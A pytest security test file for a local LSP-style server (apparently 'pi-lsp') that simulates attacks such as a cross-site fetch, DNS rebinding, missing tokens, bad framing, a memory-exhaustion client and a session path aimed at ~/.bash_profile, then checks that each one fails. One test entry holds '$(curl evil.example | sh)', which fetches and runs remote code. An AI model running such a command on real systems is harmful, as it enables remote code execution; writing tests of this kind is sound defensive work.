"""Who may use the network transports, and what they may make the server do (issue 8).

Each test is an attack on a real server process: a browser's blind ``fetch`` to ``--tcp``, a web
page or a rebound DNS name talking to ``--ws``, a client without the token, a client that never
reads its answers, broken framing, and a session path aimed at ``~/.bash_profile``.
"""

from __future__ import annotations

import asyncio
import importlib.util
import socket
import subprocess
import time
from pathlib import Path
from typing import Any

import orjson
import pytest

from pi_lsp.client.rpc_client import RpcClient, RpcError
from tests.server.network_support import NetworkServer, run_server, start_network_server
from tests.server.support import SERVER, assistant, server_env, user

needs_websockets = pytest.mark.skipif(
    importlib.util.find_spec("websockets") is None, reason="websockets is not installed"
)


def _initialize(msg_id: int, root: Path, token: str | None) -> dict[str, Any]:
    params: dict[str, Any] = {"processId": None, "capabilities": {}, "rootUri": root.as_uri()}
    if token is not None:
        params["initializationOptions"] = {"pi": {"token": token}}
    return {"jsonrpc": "2.0", "id": msg_id, "method": "initialize", "params": params}


def _framed(message: dict[str, Any]) -> bytes:
    body = orjson.dumps(message)
    return b"Content-Length: %d\r\n\r\n%b" % (len(body), body)


async def _read_all(reader: asyncio.StreamReader, timeout: float = 10) -> bytes:
    """Everything the server sends until it closes the connection (fails if it never does)."""
    return await asyncio.wait_for(reader.read(), timeout)


async def _served(server: NetworkServer, root: Path) -> None:
    """The server still answers a well-behaved client."""
    client = await RpcClient.connect(server.host, server.port, server.token)
    try:
        await client.initialize(str(root))
        assert (await client.request("pi/newSession", {"persist": False}))["entryCount"] == 0
    finally:
        await client.close()


# ---------------------------------------------------------------------- TCP framing


async def test_browser_fetch_post_to_tcp_is_closed_without_acting(tmp_path: Path) -> None:
    server = await start_network_server(tmp_path, "--tcp")
    target = tmp_path / "created-by-a-web-page"
    try:
        # What `fetch("http://127.0.0.1:PORT", {method: "POST", mode: "no-cors", body})` sends.
        for body in (
            {"jsonrpc": "2.0", "id": 1, "method": "pi/newSession", "params": {"sessionDir": str(target)}},
            _initialize(1, tmp_path, server.token),  # even a body holding the token is not acted on
        ):
            data = orjson.dumps(body)
            reader, writer = await asyncio.open_connection(server.host, server.port)
            writer.write(
                b"POST / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nOrigin: https://evil.example\r\n"
                b"Content-Type: text/plain;charset=UTF-8\r\nContent-Length: %d\r\n\r\n%b"
                % (server.port, len(data), data)
            )
            assert await _read_all(reader) == b""  # closed, nothing answered
            writer.close()
        assert not target.exists()
        await _served(server, tmp_path)
    finally:
        log = await server.stop()
    assert b"not an LSP header" in log


@pytest.mark.parametrize("length", [b"-5", b"abc", b"99999999999999999999", b"", b"12, 12"], ids=str)
async def test_bad_content_length_closes_that_connection_only(tmp_path: Path, length: bytes) -> None:
    server = await start_network_server(tmp_path, "--tcp")
    try:
        other = await RpcClient.connect(server.host, server.port, server.token)
        await other.initialize(str(tmp_path))
        reader, writer = await asyncio.open_connection(server.host, server.port)
        writer.write(b"Content-Length: " + length + b"\r\n\r\n{}")
        assert await _read_all(reader) == b""
        writer.close()
        assert (await other.request("pi/newSession", {"persist": False}))["entryCount"] == 0
        await other.close()
        assert server.process.returncode is None
    finally:
        log = await server.stop()
    assert b"Content-Length" in log


def test_negative_content_length_on_stdio_is_a_clear_error(tmp_path: Path) -> None:
    result = subprocess.run(
        SERVER,
        input=b"Content-Length: -5\r\n\r\n{}",
        env=server_env(tmp_path / "agent"),
        capture_output=True,
        timeout=30,
    )
    assert result.returncode != 0
    assert b"Content-Length must be a non-negative integer" in result.stderr


# ---------------------------------------------------------------------- the token


@pytest.mark.parametrize("token", [None, "wrong-token-0123456789"], ids=["missing", "wrong"])
async def test_tcp_needs_the_token(tmp_path: Path, token: str | None) -> None:
    server = await start_network_server(tmp_path, "--tcp")
    try:
        reader, writer = await asyncio.open_connection(server.host, server.port)
        writer.write(_framed(_initialize(1, tmp_path, token)))
        writer.write(
            _framed({"jsonrpc": "2.0", "id": 2, "method": "pi/listSessions", "params": {"all": True}})
        )
        answer = await _read_all(reader)
        writer.close()
        assert answer.count(b"Content-Length") == 1  # one error answer, then the connection closed
        message = orjson.loads(answer.split(b"\r\n\r\n", 1)[1])
        assert message["id"] == 1 and message["error"]["code"] == -32600
        assert "token" in message["error"]["message"] and server.token not in answer.decode()
        await _served(server, tmp_path)
    finally:
        await server.stop()


async def test_nothing_is_served_before_initialize(tmp_path: Path) -> None:
    server = await start_network_server(tmp_path, "--tcp")
    target = tmp_path / "sessions"
    try:
        reader, writer = await asyncio.open_connection(server.host, server.port)
        writer.write(
            _framed(
                {"jsonrpc": "2.0", "id": 7, "method": "pi/newSession", "params": {"sessionDir": str(target)}}
            )
        )
        writer.write(_framed(_initialize(8, tmp_path, server.token)))
        answer = await _read_all(reader)
        writer.close()
        message = orjson.loads(answer.split(b"\r\n\r\n", 1)[1])
        assert message["id"] == 7 and message["error"]["code"] == -32600
        assert answer.count(b"Content-Length") == 1 and not target.exists()
    finally:
        await server.stop()


async def test_token_from_the_environment_and_never_logged(tmp_path: Path) -> None:
    token = "env-token-" + "x" * 20
    log_file = tmp_path / "server.log"
    server = await start_network_server(
        tmp_path, "--tcp", "--log-file", str(log_file), log_level="debug", PI_LSP_TOKEN=token
    )
    try:
        assert server.token == token
        client = await RpcClient.connect(server.host, server.port, token)
        await client.initialize(str(tmp_path), {"pi": {"sessionDir": str(tmp_path / "s")}})
        await client.request("pi/newSession", {})
        await client.request("pi/appendEntry", {"entry": user("hi")})
        await client.request("pi/appendEntry", {"entry": assistant("hello")})
        await client.request("pi/getSystemPrompt", {})
        await client.close()
        bad = await RpcClient.connect(server.host, server.port, token[:-1] + "y")
        with pytest.raises(RpcError):
            await bad.initialize(str(tmp_path))
    finally:
        rest = await server.stop()
    assert token not in rest.decode() and token not in log_file.read_text()
    assert "initialize" in log_file.read_text()  # the debug log did record the messages
    sessions = list((tmp_path / "s").glob("*.jsonl"))
    assert sessions and token not in sessions[0].read_text()


# ---------------------------------------------------------------------- where the server listens


def test_non_loopback_bind_needs_allow_remote(tmp_path: Path) -> None:
    refused = run_server(tmp_path, "--tcp", "0.0.0.0:0")
    assert refused.returncode == 2 and "--allow-remote" in refused.stderr
    assert "listening" not in refused.stderr
    allowed = subprocess.Popen(
        [*SERVER, "--tcp", "0.0.0.0:0", "--allow-remote"],
        env=server_env(tmp_path / "agent"),
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
    )
    try:
        assert allowed.stderr is not None
        assert b"pi-lsp listening on tcp://0.0.0.0:" in allowed.stderr.readline()
    finally:
        allowed.terminate()
        allowed.wait(10)


# ---------------------------------------------------------------------- WebSocket


async def _handshake_status(server: NetworkServer, headers: dict[str, str] | list[tuple[str, str]]) -> bytes:
    """The status line of a hand-written WebSocket upgrade request (a list may repeat a header)."""
    reader, writer = await asyncio.open_connection(server.host, server.port)
    pairs = headers.items() if isinstance(headers, dict) else headers
    lines = [
        "GET / HTTP/1.1",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
        *(f"{name}: {value}" for name, value in pairs),
    ]
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
    status = await asyncio.wait_for(reader.readline(), 10)
    writer.close()
    return status


@needs_websockets
async def test_websocket_refuses_foreign_origins_and_host_names(tmp_path: Path) -> None:
    server = await start_network_server(tmp_path, "--ws", "--allow-origin", "https://editor.example")
    local = f"127.0.0.1:{server.port}"
    try:
        assert b" 101 " in await _handshake_status(server, {"Host": local})
        assert b" 101 " in await _handshake_status(server, {"Host": f"localhost:{server.port}"})
        assert b" 101 " in await _handshake_status(server, {"Host": "[::1]"})
        assert b" 101 " in await _handshake_status(
            server, {"Host": local, "Origin": "https://editor.example"}
        )
        for headers in (
            {"Host": local, "Origin": "https://evil.example"},
            {"Host": local, "Origin": "null"},
            {"Host": f"evil.example:{server.port}"},  # DNS rebinding: evil.example → 127.0.0.1
            {"Host": "evil.example"},
            {"Host": "127.0.0.1.evil.example"},
        ):
            assert b" 403 " in await _handshake_status(server, headers), headers
        await _served_over_websocket(server, tmp_path)
    finally:
        await server.stop()


def _ipv6_loopback() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
    except OSError:
        return False
    return True


@needs_websockets
@pytest.mark.parametrize("address", ["127.0.0.1:0", "[::1]:0"])
async def test_websocket_refusals_are_4xx_without_a_traceback(tmp_path: Path, address: str) -> None:
    """Every refused handshake is answered 400 (malformed) or 403 (not allowed) and logged as one
    line, also at ``--log-level debug``. A second ``Host`` header (the first this machine, the
    second a rebinding name) used to raise inside the check: HTTP 500 and a traceback in the log."""
    if address.startswith("[") and not _ipv6_loopback():
        pytest.skip("no IPv6 loopback here")
    log_file = tmp_path / "server.log"
    server = await start_network_server(
        tmp_path, "--ws", "--log-file", str(log_file), address=address, log_level="debug"
    )
    port = server.port
    try:
        for headers, status in (
            ([("Host", f"127.0.0.1:{port}"), ("Host", f"evil.example:{port}")], b" 400 "),
            ([("Host", f"evil.example:{port}"), ("Host", f"127.0.0.1:{port}")], b" 400 "),
            ([], b" 400 "),  # no Host at all
            ([("Host", f"evil.example:{port}")], b" 403 "),
            ([("Host", "")], b" 403 "),
            ([("Host", "[::1")], b" 403 "),
            ([("Host", "[::1]x")], b" 403 "),
            ([("Host", "::1")], b" 403 "),
            ([("Host", f"[::ffff:127.0.0.1]:{port}")], b" 403 "),
            ([("Host", f"127.0.0.1:{port}:{port}")], b" 403 "),
            ([("Host", "localhost."), ("Origin", "https://evil.example")], b" 403 "),
            (
                [
                    ("Host", f"127.0.0.1:{port}"),
                    ("Origin", "https://a.example"),
                    ("Origin", "https://b.example"),
                ],
                b" 403 ",
            ),
            ([("Host", f"localhost:{port}"), ("Sec-WebSocket-Key", "x")], b" 400 "),  # websockets' own
            ([("Host", f"[::1]:{port}")], b" 101 "),
            ([("Host", f"localhost:{port}")], b" 101 "),
        ):
            assert status in await _handshake_status(server, headers), headers
    finally:
        await server.stop()
    log = log_file.read_text()
    assert "Traceback" not in log and " 500" not in log, log[-3000:]
    assert "the request has 2 Host headers" in log and "Host 'evil.example:" in log


async def _served_over_websocket(server: NetworkServer, root: Path) -> None:
    from websockets.asyncio.client import connect

    async with connect(f"ws://{server.host}:{server.port}", origin="https://editor.example") as socket:  # type: ignore[arg-type]
        await socket.send(orjson.dumps(_initialize(1, root, server.token)).decode())
        reply = orjson.loads(await asyncio.wait_for(socket.recv(), 10))
        assert reply["result"]["serverInfo"]["name"] == "pi-lsp"


@needs_websockets
async def test_websocket_needs_the_token(tmp_path: Path) -> None:
    from websockets.asyncio.client import connect
    from websockets.exceptions import ConnectionClosed

    server = await start_network_server(tmp_path, "--ws")
    try:
        async with connect(f"ws://{server.host}:{server.port}") as socket:
            await socket.send(orjson.dumps(_initialize(1, tmp_path, "not-the-token-123456")).decode())
            reply = orjson.loads(await asyncio.wait_for(socket.recv(), 10))
            assert reply["error"]["code"] == -32600 and "token" in reply["error"]["message"]
            with pytest.raises(ConnectionClosed):
                await asyncio.wait_for(socket.recv(), 10)
    finally:
        await server.stop()


# ---------------------------------------------------------------------- session files


@needs_websockets
async def test_open_session_cannot_create_bash_profile(tmp_path: Path) -> None:
    """The attack from issue 8: openSession on ~/.bash_profile, then appends that write it."""
    from websockets.asyncio.client import connect

    home = tmp_path / "home"
    home.mkdir()
    (home / "empty.sh").write_bytes(b"")
    (home / "link.jsonl").symlink_to(home / ".profile")
    server = await start_network_server(tmp_path, "--ws", HOME=str(home))
    try:
        async with connect(f"ws://{server.host}:{server.port}") as socket:
            ids = iter(range(1, 100))

            async def call(method: str, params: dict[str, Any]) -> dict[str, Any]:
                msg_id = next(ids)
                await socket.send(
                    orjson.dumps(
                        {"jsonrpc": "2.0", "id": msg_id, "method": method, "params": params}
                    ).decode()
                )
                while True:
                    message: dict[str, Any] = orjson.loads(await asyncio.wait_for(socket.recv(), 10))
                    if message.get("id") == msg_id:
                        return message

            assert "result" in await call("initialize", _initialize(0, home, server.token)["params"])
            for path in ("~/.bash_profile", str(home / "empty.sh"), str(home / "link.jsonl")):
                opened = await call("pi/openSession", {"path": path})
                error = opened["error"]
                assert error["code"] == -32007, opened
                assert error["data"]["path"].startswith(str(home)) and error["data"]["reason"] == "notJsonl"
                assert ".jsonl" in error["message"]
                for entry in (user("$(curl evil.example | sh)"), assistant("ok")):
                    appended = await call("pi/appendEntry", {"entry": entry})
                    assert appended["error"]["code"] == -32001  # no session was opened
            assert "result" in await call("pi/openSession", {"path": "~/fine.jsonl"})
    finally:
        await server.stop()
    assert sorted(path.name for path in home.iterdir()) == ["empty.sh", "link.jsonl"]
    assert (home / "empty.sh").read_bytes() == b""


# ---------------------------------------------------------------------- a client that stops reading


def _rss_bytes(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


async def test_client_that_stops_reading_is_dropped_and_memory_stays_bounded(tmp_path: Path) -> None:
    server = await start_network_server(tmp_path, "--tcp")
    pid = server.process.pid
    try:
        writer_client = await RpcClient.connect(server.host, server.port, server.token)
        await writer_client.initialize(str(tmp_path))
        state = await writer_client.request("pi/newSession", {"persist": False})
        chunk = "x" * 500_000
        for number in range(16):  # an 8 MB session: each pi/getEntries answer is ~8 MB
            await writer_client.request("pi/appendEntry", {"entry": user(f"{number} {chunk}")})
        baseline = _rss_bytes(pid)

        # The greedy client: asks for the whole session again and again and never reads.
        greedy = socket.create_connection((server.host, server.port))
        greedy.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
        request = {"jsonrpc": "2.0", "method": "pi/getEntries", "params": {"session": state["sessionId"]}}
        greedy.sendall(
            _framed(_initialize(1, tmp_path, server.token))
            + b"".join(_framed({**request, "id": msg_id}) for msg_id in range(2, 400))
        )  # ~3 GB of answers if the server buffered them
        peak = baseline
        deadline = time.monotonic() + 60
        served = 0
        while time.monotonic() < deadline:
            # Meanwhile another editor keeps being served promptly.
            started = time.monotonic()
            assert (await writer_client.request("pi/getSessionState", {}, timeout=10))["entryCount"] == 16
            assert time.monotonic() - started < 5
            served += 1
            peak = max(peak, _rss_bytes(pid))
            assert peak - baseline < 300 * 1024 * 1024, f"server grew by {(peak - baseline) >> 20} MB"
            if _reset_by_server(greedy):
                break
            await asyncio.sleep(0.05)
        else:
            raise AssertionError("the client that stopped reading was never disconnected")
        greedy.close()
        print(f"\nRSS baseline {baseline >> 20} MB, peak {peak >> 20} MB; other client served {served}x")
        assert (await writer_client.request("pi/getEntries", {}))["entries"][0]["type"] == "message"
        await writer_client.close()
    finally:
        log = await server.stop()
    assert b"is not reading its messages" in log


def _reset_by_server(sock: socket.socket) -> bool:
    """True once the server has dropped the connection (the socket's state; nothing is read)."""
    tcp_close = 7  # tcpi_state in Linux's struct tcp_info
    return sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == tcp_close
